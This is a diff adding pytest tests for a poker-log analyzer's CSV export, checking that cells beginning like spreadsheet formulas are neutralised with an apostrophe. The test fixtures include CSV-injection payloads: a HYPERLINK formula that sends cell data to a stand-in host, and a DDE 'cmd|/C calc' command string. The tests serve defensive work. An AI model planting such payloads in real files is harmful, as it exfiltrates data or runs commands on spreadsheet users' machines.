@@ -300,6 +300,87 @@ def test_the_same_file_given_twice_is_read_once(tmp_path: Path) -> None:
     assert "3 hands, 3 valid, 0 problems" in r.output
 
 
+#: Player ids a spreadsheet would run as formulas (OWASP: = + - @ tab carriage return), and one that starts with
+#: the apostrophe itself (so that taking one apostrophe off always gives the id back).
+FORMULA_IDS = ['=HYPERLINK("http://x.example/?"&A1,"hi")', "+1+cmd|/C calc!A0", "-2+3", "@SUM(1)"]
+MORE_FORMULA_IDS = ["\t=1+1", "\r=2+2", "'=3+3", "plain"]
+
+
+def _room_of(folder: Path, players: list[str], n: int = 6) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    p = folder / "room.jsonl"
+    objs = [legal_obj(s, f"h{s}") for s in range(n)]
+    for o in objs:
+        o["players"] = players
+    p.write_bytes(b"".join(orjson.dumps(o) + b"\n" for o in objs))
+    return p
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.DictReader(f))
+
+
+def _check_defused(rows: list[dict[str, str]], id_columns: tuple[str, ...], ids: list[str]) -> None:
+    """Every id cell is the id with one apostrophe in front when it starts like a formula or with one, and every
+    other cell is as a number is written: no apostrophe, a negative number still a number."""
+    for row in rows:
+        for c in id_columns:
+            raw = row[c][1:] if row[c].startswith("'") else row[c]
+            assert raw in ids and row[c] == ("'" + raw if raw[:1] in "=+-@\t\r'" else raw), row[c]
+    others = [v for row in rows for k, v in row.items() if k not in id_columns]
+    assert not any(v.startswith("'") for v in others)
+    negative = [v for v in others if v.startswith("-")]
+    assert negative and all(float(v) < 0 for v in negative)
+
+
+def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(tmp_path: Path) -> None:
+    log = _room_of(tmp_path / "in", FORMULA_IDS)
+    out = tmp_path / "au"
+    r = _run("audit", str(log), "-o", str(out), *AUDIT_FAST)
+    assert r.exit_code in (0, 1) and (r.exception is None or isinstance(r.exception, SystemExit)), r.output
+    players = _csv_rows(out / "players.csv")
+    assert sorted(row["player"] for row in players) == sorted("'" + i for i in FORMULA_IDS)
+    _check_defused(players, ("player",), FORMULA_IDS)
+    pairs = _csv_rows(out / "pairs.csv")
+    assert len(pairs) == 6
+    _check_defused(pairs, ("a", "b"), FORMULA_IDS)
+    audit = orjson.loads((out / "audit.json").read_bytes())  # JSON keeps the ids exactly
+    assert sorted(p["player"] for p in audit["players"]) == sorted(FORMULA_IDS)
+    assert {i for p in audit["pairs"] for i in p["players"]} == set(FORMULA_IDS)
+
+
+def test_players_csv_defuses_formulas_and_json_keeps_the_ids(tmp_path: Path) -> None:
+    log = _room_of(tmp_path / "in", MORE_FORMULA_IDS)
+    r = _run("players", str(log), "--format", "csv", "-o", str(tmp_path / "p.csv"), *FAST)
+    _clean_exit(r, 0)
+    rows = _csv_rows(tmp_path / "p.csv")
+    assert sorted(row["player"] for row in rows) == sorted(["'\t=1+1", "'\r=2+2", "''=3+3", "plain"])
+    _check_defused(rows, ("player",), MORE_FORMULA_IDS)
+    r = _run("players", str(log), "--format", "json", *FAST)
+    _clean_exit(r, 0)
+    assert sorted(p["player"] for p in orjson.loads(r.output)) == sorted(MORE_FORMULA_IDS)
+
+
+def test_csv_text_leaves_numbers_and_the_frame_alone() -> None:
+    from analyzer.logs import csv_text
+
+    frame = pd.DataFrame({"player": ["=1", "bob", None, "-x"], "score": [-1.5, 2.0, -3.0, 0.0], "n": [-1, 2, 3, 4],
+                          "flag": [True, False, True, False], "mixed": [-7, "@x", None, "ok"]})
+    before = frame.copy()
+    lines = csv_text(frame, float_format="%.6g").splitlines()
+    assert lines == ["player,score,n,flag,mixed", "'=1,-1.5,-1,True,-7", "bob,2,2,False,'@x", ",-3,3,True,",
+                     "'-x,0,4,False,ok"]
+    pd.testing.assert_frame_equal(frame, before)
+    plain = pd.DataFrame({"player": ["a", "b"], "v": [-1, 1]})
+    assert csv_text(plain) == plain.to_csv(index=False)  # nothing to defuse: the bytes pandas writes
+    # a carriage return inside a cell: quoted (lines end in CR LF), so the row stays one row
+    assert csv_text(pd.DataFrame({"player": ["a\rb", "\r=1"], "v": [-1, 1]})) == \
+        'player,v\r\n"a\rb",-1\r\n"\'\r=1",1\r\n'
+
+
 def test_audit_into_its_input_folder_keeps_the_logs(tmp_path: Path) -> None:
     logs = tmp_path / "logs"
     _log(logs, n=4)
@@ -377,6 +458,21 @@ def test_standard_input_redirected_from_the_output_is_refused(tmp_path: Path, co
     assert log.read_bytes() == before
     with open(log, "rb") as f:  # another output from the same redirected input is fine
         assert _cli(command[0], "-", "-o", str(tmp_path / "out.txt"), *command[1:], stdin=f).returncode == 0
+
+
+@pytest.mark.parametrize("order", [["-", "LOG"], ["LOG", "-"]])
+def test_standard_input_redirected_from_a_named_file_is_read_once(tmp_path: Path, order: list[str]) -> None:
+    """``analyzer validate - log.jsonl < log.jsonl`` (either order) reads the file once, as ``/dev/stdin`` does: its
+    hands are not duplicates of themselves. Another file on standard input is still read."""
+    log = _log(tmp_path)
+    args = [str(log) if a == "LOG" else a for a in order]
+    with open(log, "rb") as f:
+        r = _cli("validate", *args, stdin=f)
+    assert r.returncode == 0 and "3 hands, 3 valid, 0 problems" in r.stdout, r.stdout + r.stderr
+    other = _log(tmp_path / "b", first=10)
+    with open(other, "rb") as f:
+        r = _cli("validate", *args, stdin=f)
+    assert r.returncode == 0 and "6 hands, 6 valid, 0 problems" in r.stdout, r.stdout + r.stderr
 
 
 @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
